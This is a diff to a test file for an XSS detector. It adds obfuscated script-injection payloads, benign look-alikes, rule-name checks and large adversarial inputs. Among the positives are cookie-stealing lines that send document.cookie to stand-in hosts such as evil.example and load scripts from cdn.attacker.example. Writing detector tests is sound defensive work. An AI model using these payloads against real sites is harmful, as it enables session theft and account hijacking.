@@ -91,6 +91,37 @@ const positives: string[] = [
   '[5].find(alert)',
   '[].map.call`${alert}`',
   'x&{alert(1)};',
+  // Element names behind blanks, a namespace prefix, or spelled out letter by letter.
+  '< script src=//cdn.attacker.example/p.js>',
+  '<v: script>confirm(4)</v: script>',
+  '<\tiframe src=//frames.example/x>',
+  '<o b j e c t data=movie.swf>',
+  'q<s\tc\tr\ti\tp\tt>',
+  '<b a s e href=//evil.example/>',
+  // A value that is only a numeric reference to `<`: a probe for entity decoding.
+  '&#x00003C;',
+  '&#0060',
+  // Calls and DOM access carried inside a tag, whatever the attribute.
+  '<a href="/help#prompt(9)">x</a>',
+  '<img[x]src=1[y]onerror[z]="confirm(2)">',
+  '<p title="document.domain">',
+  '<q cite="https://x.example/#document.cookie=1">',
+  // DOM code as a value or after a breakout.
+  "document.location='https://evil.example/?c='+document.cookie",
+  '";window.location="//evil.example";"',
+  "'-document.write(1)-'",
+  'document.body.appendChild(document.createElement("img")).src="//x.example"',
+  'javascript:window.location',
+  // Backslashes a string layer consumes before the call.
+  'prompt\\(7\\)',
+  'confirm\\`8\\`',
+  // A DTD that gives elements a default event handler; IE behaviour imports squeezed together.
+  '<!DOCTYPE r [<!ATTLIST p onmouseover CDATA "x()">]><p>',
+  '<IMPORTIMPLEMENTATION="x.htc">',
+  // Obfuscated CSS in a style attribute.
+  '<b style="\\62 ehavior:url(x.htc)">',
+  "<i style='col\\or:red'>",
+  '<p style="font-family:\'\\3c \\2f style\\3e\'">',
   // Client-side templates.
   "{{constructor.constructor('alert(25)')()}}",
   "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
@@ -125,6 +156,31 @@ const notHigh: string[] = [
   'the </script> tag ends a script',
   'style: expression of interest',
   'data:image/png;base64,iVBORw0KGgo=',
+  // CSS that looks odd but is ordinary or only probes (medium at most).
+  '<div style="font-family:x}body{color:red">',
+  '<div style="width:${w}px">',
+  '<div style={styles.box}>',
+  '<td style="font-family:\\5FAE\\8F6F\\96C5\\9ED1">',
+  '<p style=\\"color:red;\\nmargin:0\\">hi</p>',
+  '<div style="background:url(C:\\Users\\me\\bg.png)">',
+  // Comparisons and prose, not tags.
+  'n < script && m',
+  'for (i = 0; i < iframes.length; i++)',
+  'I <3 s c r i p t s',
+  'price &#60; 10',
+  '&lt;',
+  // DOM names in prose, paths and ordinary code.
+  'document.domain is deprecated',
+  'see document.cookie docs',
+  'files/document.body.txt (draft)',
+  '<a href="https://docs.example/javascript-manual/document.cookie">cookies</a>',
+  'window.location vs document.location, which to use?',
+  'const el = document.getElementById("app");',
+  'document.write() is deprecated',
+  'eval() is evil',
+  '<img src="cat.png" alt="Press confirm (yes) to go on">',
+  '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
+  '<noscript>Please enable JavaScript</noscript>',
 ];
 
 /** Each must return undefined. */
@@ -192,6 +248,12 @@ t.test('rules name the structure', async (t) => {
   t.equal(rule('<div datasrc=#x datafld=a dataformatas=html>'), 'xss.active-attribute');
   t.equal(rule('<!--#exec cmd="ls" -->'), 'xss.server-include');
   t.equal(rule('alert(1);</script><b>'), 'xss.context-breakout');
+  t.equal(rule('<f o r m action=//x.example>'), 'xss.tag-obfuscation');
+  t.equal(rule('&#X3c;'), 'xss.encoded-probe');
+  t.equal(rule('<a href="x#confirm(1)">'), 'xss.script-in-tag');
+  t.equal(rule('document.cookie="sid=1"'), 'xss.dom-access');
+  t.equal(rule('<x title="window.location">'), 'xss.dom-access');
+  t.equal(rule('<a style="no\\xss:1">'), 'xss.css-obfuscation');
 });
 
 t.test('harmless markup is low, breakouts into harmless tags medium', async (t) => {
@@ -199,6 +261,15 @@ t.test('harmless markup is low, breakouts into harmless tags medium', async (t) 
   t.equal(detectXss('"><img class="x">')?.confidence, 'medium');
   t.equal(detectXss('<svg width="1"></svg>')?.confidence, 'medium');
   t.equal(detectXss('try javascript:alert(1) in the console')?.confidence, 'medium');
+  t.equal(detectXss('<div style="font-family:x}color:red">')?.rule, 'xss.css-injection');
+  t.equal(detectXss('<div style="font-family:x}color:red">')?.confidence, 'medium');
+  t.equal(detectXss('<plaintext>')?.confidence, 'medium');
+  t.equal(detectXss('x = document.getElementById("app")')?.confidence, 'medium');
+  t.equal(detectXss('<x xsi:schemaLocation="urn:x http://schemas.example/x.xsd">')?.confidence, 'low');
+  // A bare `document.cookie` has no character the engine's mask lets through; with one it fires.
+  t.equal(detectXss('document.cookie'), undefined);
+  t.equal(detectXss('document.cookie;')?.confidence, undefined);
+  t.equal(detectXss('(document.cookie)')?.confidence, 'medium');
 });
 
 t.test('reasons are one short sentence without echoing the input', async (t) => {
@@ -263,6 +334,18 @@ t.test('adversarial 1 MB inputs return without throwing', async (t) => {
     nul: '\u0000'.repeat(MB),
     blanks: ' '.repeat(MB),
     prose: 'Tom & Jerry: a < b (c) = "d" '.repeat(MB / 29),
+    attlist: '<!ATTLIST a on'.repeat(MB / 14),
+    ltBlanks: '< '.repeat(MB / 2),
+    ltPrefix: '<x: '.repeat(MB / 4),
+    spelled: '<s c r i p '.repeat(MB / 11),
+    domRoots: 'document.'.repeat(MB / 9),
+    domChain: 'document.body' + '.a'.repeat(MB / 2),
+    tagCalls: '<a b="alert(1) c" d=1>'.repeat(MB / 22),
+    tagDom: '<a b="document.cookie x">'.repeat(MB / 25),
+    styleEscapes: '<a style="' + '\\'.repeat(MB) + '">',
+    styleBraces: '<a style="' + '}'.repeat(MB) + '">',
+    backslashCalls: 'alert' + '\\'.repeat(MB),
+    callTicks: '(`'.repeat(MB / 2),
   };
   for (const [name, v] of Object.entries(big)) {
     t.doesNotThrow(() => detectXss(v), name);
